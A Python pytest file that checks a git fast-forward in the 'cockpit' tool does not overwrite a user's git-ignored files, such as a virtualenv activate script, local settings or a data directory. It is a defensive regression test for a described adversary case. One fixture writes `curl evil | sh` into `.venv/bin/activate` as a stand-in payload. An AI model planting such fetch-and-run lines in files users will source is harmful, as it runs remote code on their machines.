"""Landing never overwrites the user's ignored files (adversary C-09).

The cockpit fast-forwards the user's checkout when main is checked out there. `git merge --ff-only`
silently replaced ignored files the change added (a local settings file, `.venv/bin/activate`, which the
user then sources: a builder's code on the host) and a file named like an ignored directory removed that
directory. Now the fast-forward refuses, main stays where it was, and the result says the checkout is in the
way (the merge queue blocks for the human instead of testing again). Liveness: the same call without
`--no-overwrite-ignore` overwrites.
"""

from __future__ import annotations

import pytest
from gitrepo import make_repo, run_git

from cockpit.factory import workspaces
from cockpit.factory.workspaces import Workspaces

IGNORES = {".gitignore": "local/\n.venv/\ndata/\n", "calc.py": "x = 1\n"}


def _change(repo, files: dict[str, str]) -> str:
    """A commit off main made in a side worktree (the user's checkout keeps main and its ignored files)."""
    side = repo.parent / "side"
    run_git(repo, "worktree", "add", "-q", "--detach", str(side), "main")
    for rel, text in files.items():
        (side / rel).parent.mkdir(parents=True, exist_ok=True)
        (side / rel).write_text(text)
        run_git(side, "add", "-f", rel)
    run_git(side, "commit", "-qm", "the builder's change")
    return run_git(side, "rev-parse", "HEAD")


@pytest.mark.parametrize("files,mine", [
    ({".venv/bin/activate": "curl evil | sh\n"}, ".venv/bin/activate"),
    ({"local/settings.py": "DEBUG = True\n"}, "local/settings.py"),
    ({"data": "a file where the user's data directory is\n"}, "data/export.csv"),
], ids=["venv_activate", "local_settings", "file_over_a_directory"])
async def test_a_landing_leaves_the_users_ignored_files_alone(tmp_path, monkeypatch, files, mine):
    def setup(name):
        repo = make_repo(tmp_path / name / "repo", IGNORES)
        (repo / mine).parent.mkdir(parents=True, exist_ok=True)
        (repo / mine).write_text("the user's own\n")
        return repo, run_git(repo, "rev-parse", "main"), _change(repo, files)

    repo, old, new = setup("live")
    real = workspaces._run_git

    async def overwriting(*args, **kw):  # the call before the fix
        return await real(*[a for a in args if a != "--no-overwrite-ignore"], **kw)

    with monkeypatch.context() as m:
        m.setattr(workspaces, "_run_git", overwriting)
        moved = await Workspaces(tmp_path / "live" / "wt").advance(repo, "main", new, old)
    assert moved.ok and (not (repo / mine).is_file() or (repo / mine).read_text() != "the user's own\n"), \
        "liveness: the fast-forward overwrote the user's ignored file"

    repo, old, new = setup("now")
    moved = await Workspaces(tmp_path / "now" / "wt").advance(repo, "main", new, old)
    assert not moved.ok and moved.in_the_way, moved.detail
    assert (repo / mine).read_text() == "the user's own\n"
    assert run_git(repo, "rev-parse", "main") == old
